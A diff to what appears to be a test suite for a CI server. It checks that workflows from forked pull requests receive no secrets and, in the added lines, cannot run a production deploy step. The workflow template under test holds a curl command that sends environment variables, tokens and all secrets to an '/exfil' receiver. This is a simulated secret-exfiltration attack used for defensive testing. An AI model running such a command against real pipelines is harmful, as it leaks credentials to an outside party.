@@ -84,6 +84,11 @@ jobs:
           env > "${dumpDir}/env-$GITHUB_RUN_ATTEMPT.txt"
           curl -sS -m 10 --data-binary "key=$FROM_ENV global=$GLOBAL token=$TOKEN gh=$GH_TOKEN b64=$(printf '%s' "$FROM_ENV" | base64 -w0) all=\${{ toJSON(secrets) }}" "${receiver}/exfil"
           echo FORK-CODE-RAN
+      - name: Deploy from the fork
+        continue-on-error: true
+        uses: slipway/deploy@v1
+        with:
+          env: production
 `;
 }
 
@@ -247,6 +252,10 @@ describe("pull requests from forks", { concurrent: true }, () => {
         expect(forkLog).toContain("FORK-CODE-RAN");
         expect(forkLog).toContain("direct=|||");
         expect(forkLog).toContain("all={}");
+        // Nor can it deploy with the server's deploy secrets and spec.
+        expect(forkLog).toContain(
+          "slipway/deploy does not run for a pull request from a fork: its code gets no secrets and cannot deploy",
+        );
         expectNoSecret(forkLog, s.secrets, "the fork run's log");
         const env = readFileSync(join(s.dumpDir, "env-1.txt"), "utf8");
         expect(env).toMatch(/^FROM_ENV=$/m);
